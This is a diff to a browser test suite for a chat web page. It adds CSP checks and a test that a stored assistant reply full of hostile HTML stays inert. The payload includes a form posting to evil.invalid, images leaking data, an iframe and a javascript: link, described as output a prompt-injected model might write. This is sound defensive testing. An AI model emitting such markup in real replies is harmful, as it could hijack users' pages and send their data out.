@@ -1,6 +1,8 @@
 """The chat page in real headless Chromium (Debian's /usr/bin/chromium, driven by Playwright).
 
-Screenshots land in tests/artifacts/ (wide and narrow windows) for a person to look at.
+Screenshots land in tests/artifacts/ (wide and narrow windows) for a person to look at. Every page
+opened here also collects Content-Security-Policy violations as errors, so each test shows the page
+works under its CSP.
 """
 
 from __future__ import annotations
@@ -32,11 +34,20 @@ def browser():
         browser.close()
 
 
+# Injected by Playwright (outside the page's CSP): what the CSP blocked, for the tests to read. The
+# CSP also forbids eval, so wait_for_function gets functions ("() => ..."), never bare expressions.
+RECORD_VIOLATIONS = """window.violations = [];
+document.addEventListener("securitypolicyviolation", (e) => window.violations.push(e.violatedDirective + " " + e.blockedURI));"""
+
+
 def open_page(browser, url, **context):
+    """A new page at `url`; `errors` collects uncaught errors and CSP violations as they happen."""
     ctx = browser.new_context(**context)
+    ctx.add_init_script(RECORD_VIOLATIONS)
     page = ctx.new_page()
     errors = []
     page.on("pageerror", lambda e: errors.append(str(e)))
+    page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
     page.goto(url)
     return ctx, page, errors
 
@@ -87,7 +98,7 @@ def test_chat_page_end_to_end(browser, web):
     page.evaluate("""() => { const b = document.querySelector('.message.user pre .copy'); window.labels = [];
         new MutationObserver(() => window.labels.push(b.textContent)).observe(b, {childList: true}); }""")
     page.locator(".message.user pre .copy").click()
-    page.wait_for_function("window.labels.includes('Copied')")
+    page.wait_for_function("() => window.labels.includes('Copied')")
     assert page.evaluate("navigator.clipboard.readText()") == CODE
     cid = page.evaluate("location.hash").lstrip("#")
     stored = httpx.get(f"{url}/v1/conversations/{cid}").json()
@@ -105,12 +116,12 @@ def test_chat_page_end_to_end(browser, web):
     page.click("#toggle-settings")
     page.fill("#input", "Tell me everything.")
     page.press("#input", "Enter")
-    page.wait_for_function("(document.querySelector('.message.streaming .body') || {}).textContent?.length > 5")
+    page.wait_for_function("() => (document.querySelector('.message.streaming .body') || {}).textContent?.length > 5")
     page.click("#stop")
     wait_reply_done(page, 2)
     assert page.is_visible("#send") and page.is_hidden("#stop")
     page.wait_for_function(
-        f"fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4)")
+        f"() => fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4)")
     partial = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"][-1]
     assert partial["role"] == "assistant" and partial["content"]
     tokens = len(web[1].state.engine.loaded.tokenizer(partial["content"])["input_ids"])
@@ -123,38 +134,114 @@ def test_chat_page_end_to_end(browser, web):
     page.click("#regenerate")
     wait_reply_done(page, 2)
     page.wait_for_function(
-        f"fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4"
+        f"() => fetch('/v1/conversations/{cid}').then(r => r.json()).then(c => c.messages.length === 4"
         f" && c.messages[3].content !== {partial['content']!r})")
 
     # Reload: the conversation is in the list, and opens with its messages.
     page.reload()
     page.wait_for_selector(f"#conversations li[data-id='{cid}']")
     assert page.locator(f"#conversations li[data-id='{cid}'] .open").inner_text().startswith("Explain this code")
-    page.wait_for_function("document.querySelectorAll('.message').length === 4")
+    page.wait_for_function("() => document.querySelectorAll('.message').length === 4")
 
     # Rename and delete through the list's buttons (the browser's own prompt and confirm dialogs).
     page.once("dialog", lambda dialog: dialog.accept("Adding numbers"))
     page.click(f"#conversations li[data-id='{cid}'] .rename")
-    page.wait_for_function(f"document.querySelector(\"#conversations li[data-id='{cid}'] .open\")"
+    page.wait_for_function(f"() => document.querySelector(\"#conversations li[data-id='{cid}'] .open\")"
                            ".textContent === 'Adding numbers'")
     assert httpx.get(f"{url}/v1/conversations/{cid}").json()["title"] == "Adding numbers"
 
     # A narrow window: the list hides behind a button and slides over the chat.
     page.set_viewport_size({"width": 390, "height": 780})
     assert page.is_visible("#toggle-sidebar")
-    page.wait_for_function("document.querySelector('#sidebar').getBoundingClientRect().right <= 0")
+    page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().right <= 0")
     page.screenshot(path=str(ARTIFACTS / "web-narrow.png"))
     page.click("#toggle-sidebar")
-    page.wait_for_function("document.querySelector('#sidebar').getBoundingClientRect().x === 0")
+    page.wait_for_function("() => document.querySelector('#sidebar').getBoundingClientRect().x === 0")
     page.screenshot(path=str(ARTIFACTS / "web-narrow-list.png"))
     width = page.evaluate("document.documentElement.scrollWidth")
     assert width <= 390, "the page scrolls sideways in a narrow window"
 
     page.once("dialog", lambda dialog: dialog.accept())
     page.click(f"#conversations li[data-id='{cid}'] .delete")
-    page.wait_for_function(f"!document.querySelector(\"#conversations li[data-id='{cid}']\")")
+    page.wait_for_function(f"() => !document.querySelector(\"#conversations li[data-id='{cid}']\")")
     assert httpx.get(f"{url}/v1/conversations/{cid}").status_code == 404
     assert errors == []
+    ctx.close()
+
+
+# A reply carrying HTML that, rendered, would take over the page: a second composer and
+# message box (DOM clobbering by id), a style sheet that hides the real composer and draws a fake
+# prompt, remote images that send data out, and a frame. It must show as text; the Markdown around it
+# must still render.
+HOSTILE = """Here is **bold** text, a [link](https://example.org/docs) and a table:
+
+| left | right |
+|:-----|------:|
+| 1    | 2     |
+
+- [x] a done task
+
+```python
+print("kept")
+```
+
+<form id="composer" action="http://evil.invalid/steal"><textarea id="input" name="q"></textarea>
+<input id="send" type="submit"></form>
+<style>#composer { display: none } body::after { content: "you> " }</style>
+<img src="http://evil.invalid/leak.png?c=secret">
+![pixel](http://evil.invalid/pixel.png)
+<div id="messages" name="title" style="position: fixed; inset: 0">fake prompt</div>
+<iframe src="http://evil.invalid/frame"></iframe>
+<svg><style>*{color:red}</style></svg>
+<a href="javascript:alert(1)">click</a>"""
+
+
+def test_hostile_markup_in_a_stored_reply_stays_harmless_under_the_csp(browser, web):
+    url, app = web
+    policy = httpx.get(url).headers["content-security-policy"]
+    for directive in ("default-src 'none'", "script-src 'self'", "connect-src 'self'", "img-src 'self' data:",
+                      "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"):
+        assert directive in policy
+    cid = httpx.post(f"{url}/v1/conversations", json={"params": {"max_new_tokens": 4}}).json()["id"]
+    app.state.store.add_message(cid, "user", "Show me <b>markup</b>")
+    app.state.store.add_message(cid, "assistant", HOSTILE)  # as a prompt-injected model would write it
+
+    ctx, page, errors = open_page(browser, f"{url}/#{cid}")
+    outbound = []
+    page.on("request", lambda r: outbound.append(r.url) if "evil.invalid" in r.url else None)
+    page.wait_for_selector(".message.assistant .body table")
+    body = page.locator(".message.assistant .body")
+    # The Markdown is intact: emphasis, a link, an aligned table, a task, a highlighted code block.
+    assert body.locator("strong").inner_text() == "bold"
+    assert body.locator("a[href='https://example.org/docs']").count() == 1
+    assert body.locator("td[align=right]").inner_text() == "2"
+    assert "a done task" in body.locator("li").first.inner_text()
+    assert body.locator("pre code.hljs.language-python").inner_text().strip() == 'print("kept")'
+    # The markup is text: nothing that posts, styles, loads, frames or names an element survives.
+    dangerous = "form, textarea, input, button:not(.copy), style, img, iframe, svg, [id], [name], [style], a[href^=javascript]"
+    assert body.locator(dangerous).count() == 0
+    assert '<form id="composer"' in body.inner_text() and "fake prompt" in body.inner_text()
+    assert page.evaluate("document.querySelectorAll('#composer, #input, #send, #messages').length") == 4
+    assert page.evaluate("document.forms.length") == 2  # the plain fallback's form and the composer
+    assert page.is_visible("#composer")
+    assert page.evaluate("getComputedStyle(document.body, '::after').content") == "none"
+
+    ARTIFACTS.mkdir(exist_ok=True)
+    page.screenshot(path=str(ARTIFACTS / "web-hostile.png"))
+    # The real composer still sends, through the API, to this conversation.
+    page.fill("#input", "still mine")
+    page.press("#input", "Enter")
+    wait_reply_done(page, 2)
+    messages = httpx.get(f"{url}/v1/conversations/{cid}").json()["messages"]
+    assert [m["content"] for m in messages][2] == "still mine" and len(messages) == 4
+    assert outbound == [] and errors == [] and page.evaluate("window.violations") == []
+
+    # The CSP itself holds as the second line: markup that slipped past the sanitizer loads nothing.
+    page.evaluate("""document.querySelector('#messages').insertAdjacentHTML('beforeend',
+        '<img src="http://evil.invalid/late.png"><div style="color: red">styled</div>')""")
+    page.wait_for_function("() => window.violations.length >= 2")
+    blocked = " ".join(page.evaluate("window.violations"))
+    assert "img-src http://evil.invalid/late.png" in blocked and "style-src-attr" in blocked
     ctx.close()
 
 
@@ -179,7 +266,7 @@ def test_api_key_is_asked_for_and_used(browser, tiny_loaded, tmp_path):
         expect(page.locator("#notice")).to_contain_text("API key")
         page.fill("#api-key", "sesame")
         page.press("#api-key", "Tab")  # change event: stored, and the page starts again
-        page.wait_for_function("document.querySelector('#model').textContent === 'tiny'")
+        page.wait_for_function("() => document.querySelector('#model').textContent === 'tiny'")
         ctx.close()
     finally:
         stop()
